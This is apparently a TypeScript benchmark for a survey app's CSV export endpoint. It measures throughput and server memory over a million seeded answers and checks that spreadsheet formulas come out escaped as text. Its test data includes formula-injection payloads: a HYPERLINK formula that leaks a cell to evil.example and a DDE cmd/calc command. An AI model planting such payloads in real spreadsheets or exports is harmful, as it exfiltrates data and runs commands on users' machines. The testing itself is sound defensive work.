// The export benchmark: 1,000,000 answers through GET /api/v1/exports/answers as CSV, read as
// fast as the client can; the time, the bytes, and Kept's peak resident memory sampled from
// /proc while it streams (its memory must not grow with the rows). One answer in 1,000 carries
// a reason a spreadsheet would run as a formula; each must come out as text.
import { readFile } from 'node:fs/promises';
import http from 'node:http';
import { loadavg } from 'node:os';
import { parse } from 'csv-parse/sync';
import pg from 'pg';
import { keptCli } from '../test/process.ts';
import { ensureWorkspace } from './dataset.ts';
import type { Row } from './report.ts';

export const exportWorkspace = 'bench-export';
export const exportAnswers = 1_000_000;
const customers = 10_000;
const chunk = 250_000;
/** The reasons of one answer in 1,000: each must arrive as text, not a formula. */
export const hostileReasons = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for a refund")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1',
  '-1',
];

export interface ExportBenchOptions {
  db: pg.Client;
  url: string;
  dataDir: string;
  keptPid: number;
  log: (s: string) => void;
}

const fmt = (n: number) => Math.round(n).toLocaleString('en');

async function ensureAnswers(db: pg.Client, ws: string, log: (s: string) => void): Promise<void> {
  const stored = Number((await db.query('SELECT count(*) AS n FROM responses WHERE workspace_id = $1', [ws])).rows[0].n);
  if (stored === exportAnswers) return log(`export data: ${fmt(stored)} answers already loaded`);
  const t0 = Date.now();
  await db.query('DELETE FROM responses WHERE workspace_id = $1', [ws]);
  await db.query(
    `INSERT INTO customers (workspace_id, id, external_id, email, name, created_at, updated_at)
     SELECT $1::uuid, md5($1::text || ':' || n)::uuid, 'x-' || n, 'x-' || n || '@example.com', 'Customer ' || n, now(), now()
     FROM generate_series(0, $2::int - 1) n ON CONFLICT DO NOTHING`,
    [ws, customers],
  );
  await db.query(
    `INSERT INTO surveys (workspace_id, id, kind, name, created_at, updated_at)
     SELECT $1, gen_random_uuid(), 'nps', 'Export NPS', now(), now()
     WHERE NOT EXISTS (SELECT 1 FROM surveys WHERE workspace_id = $1 AND name = 'Export NPS')`,
    [ws],
  );
  const survey = (await db.query(`SELECT id FROM surveys WHERE workspace_id = $1 AND name = 'Export NPS'`, [ws])).rows[0].id as string;
  const start = Date.now() - 365 * 86_400_000;
  for (let from = 0; from < exportAnswers; from += chunk) {
    const to = Math.min(exportAnswers, from + chunk);
    await db.query(
      `INSERT INTO responses (workspace_id, id, survey_id, customer_id, kind, score, reason, answers, channel, hand_picked,
                              segment, answered_at, received_at, updated_at, source)
       SELECT $1::uuid, (lpad(to_hex(x.ms), 12, '0') || '7' || substr(x.h, 1, 3) || '8' || substr(x.h, 4, 15))::uuid,
              $2::uuid, md5($1::text || ':' || (x.g::bigint * 7919) % ${customers})::uuid, 'nps', abs(hashint4(x.g)) % 11,
              CASE WHEN x.g % 1000 = 0 THEN ($6::text[])[1 + (x.g / 1000) % 4]
                   WHEN x.g % 3 = 0 THEN 'Delivery was late, the driver "lost" it; then a refund, thanks' END,
              '{}', 'import', false, '{}', to_timestamp(x.ms / 1000.0), to_timestamp(x.ms / 1000.0), to_timestamp(x.ms / 1000.0), 'bench'
       FROM (SELECT g, md5(g::text) AS h, $3::bigint + g::bigint * 31 AS ms FROM generate_series($4::int, $5::int - 1) AS g) x`,
      [ws, survey, start, from, to, hostileReasons],
    );
    log(`export data: ${fmt(to)} / ${fmt(exportAnswers)} answers (${((Date.now() - t0) / 1000).toFixed(1)} s)`);
  }
  await db.query('VACUUM (ANALYZE) responses');
}

const rssKiB = async (pid: number, field: 'VmRSS' | 'VmHWM') =>
  Number(new RegExp(`${field}:\\s+(\\d+)`).exec(await readFile(`/proc/${pid}/status`, 'utf8'))?.[1] ?? 0);

/** Streams the export, counting rows and bytes, keeping the lines that hold a hostile reason. */
function download(url: string, path: string, token: string) {
  return new Promise<{ status: number; bytes: number; rows: number; header: string; suspicious: string[] }>((resolve, reject) => {
    const req = http.get(new URL(path, url), { headers: { authorization: `Bearer ${token}` } }, (res) => {
      let bytes = 0;
      let newlines = 0;
      let header = '';
      let tail = '';
      const suspicious: string[] = [];
      res.setEncoding('utf8');
      res.on('data', (s: string) => {
        bytes += Buffer.byteLength(s);
        const text = tail + s;
        const lines = text.split('\n');
        tail = lines.pop()!;
        for (const l of lines) {
          if (!header) header = l;
          if (/HYPERLINK|@SUM|,'?[+-]1,/.test(l)) suspicious.push(l);
        }
        newlines += lines.length;
      });
      res.on('end', () => resolve({ status: res.statusCode ?? 0, bytes, rows: newlines - 1, header, suspicious }));
      res.on('error', reject);
    });
    req.on('error', reject);
  });
}

export async function runExportBench(o: ExportBenchOptions): Promise<{ rows: Row[]; notes: string[] }> {
  const ws = await ensureWorkspace(o.db, exportWorkspace);
  await ensureAnswers(o.db, ws, o.log);
  await o.db.query('CHECKPOINT');
  const token = await keptCli(
    ['token', 'create', '--name', 'bench-export', '--role', 'manager', '--workspace', exportWorkspace],
    o.dataDir,
  );
  // The same export of a tenth of the rows first: Kept's peak memory must not follow the rows.
  const tenth = (
    await o.db.query(
      `SELECT to_char(answered_at AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS.MS"Z"') AS t FROM responses
       WHERE workspace_id = $1 ORDER BY answered_at DESC, id DESC OFFSET $2 LIMIT 1`,
      [ws, exportAnswers / 10 - 1],
    )
  ).rows[0].t as string;
  const measure = async (path: string) => {
    const before = await rssKiB(o.keptPid, 'VmRSS');
    let peak = before;
    const sampler = setInterval(() => {
      void rssKiB(o.keptPid, 'VmRSS').then(
        (k) => (peak = Math.max(peak, k)),
        () => {},
      );
    }, 20);
    o.log(`export: GET ${path}`);
    const t0 = performance.now();
    const r = await download(o.url, path, token);
    const seconds = (performance.now() - t0) / 1000;
    clearInterval(sampler);
    if (r.status !== 200) throw new Error(`export answered ${r.status}`);
    return { ...r, seconds, before, peak };
  };
  const load0 = loadavg()[0]!;
  const small = await measure(`/api/v1/exports/answers?format=csv&from=${encodeURIComponent(tenth)}`);
  const r = await measure('/api/v1/exports/answers?format=csv');
  const load1 = loadavg()[0]!;
  const parsed = parse([r.header, ...r.suspicious].join('\n'), { columns: true }) as { reason: string }[];
  const asText = hostileReasons.map((h) => {
    const found = parsed.filter((p) => p.reason.slice(1) === h);
    return { h, n: found.length, text: found.length > 0 && found.every((p) => p.reason === `'${h}`) };
  });
  const injectionOk = asText.every((x) => x.n > 0 && x.text);
  const mb = (kib: number) => `${(kib / 1024).toFixed(0)} MB`;
  const line = (x: typeof r) =>
    `${fmt(x.rows)} rows, ${(x.bytes / 1024 / 1024).toFixed(0)} MB in ${x.seconds.toFixed(1)} s (${fmt(x.rows / x.seconds)} rows/s); ` +
    `Kept peak RSS ${mb(x.peak)} (${mb(x.before)} before)`;
  return {
    rows: [
      {
        name: `export of ${fmt(exportAnswers)} answers as CSV (GET /api/v1/exports/answers), 1 client`,
        result: line(r),
        target: 'peak RSS as for 1/10 of the rows; formulas as text',
        pass: r.rows === exportAnswers && injectionOk && r.peak - small.peak < 32 * 1024,
      },
      { name: `  the same, the newest ${fmt(small.rows)} answers (from=${tenth})`, result: line(small) },
    ],
    notes: [
      `Export: ${fmt(exportAnswers)} answers of 10,000 customers loaded with INSERT ... SELECT generate_series, exported through HTTP as ` +
        `CSV in pages of 5,000 by keyset; Kept's resident memory sampled every 20 ms from /proc. The newest tenth of the answers is exported first: memory that grew with the rows would show as a higher peak for the whole export than for the tenth (V8 grows its heap to a working size during the first pages and reuses it). Load average (1 min) ${load0.toFixed(2)} ` +
        `before, ${load1.toFixed(2)} after. Spreadsheet injection: ${asText.map((x) => `${JSON.stringify(x.h)} ${x.n} × ${x.text ? 'as text' : 'NOT ESCAPED'}`).join('; ')}.`,
    ],
  };
}
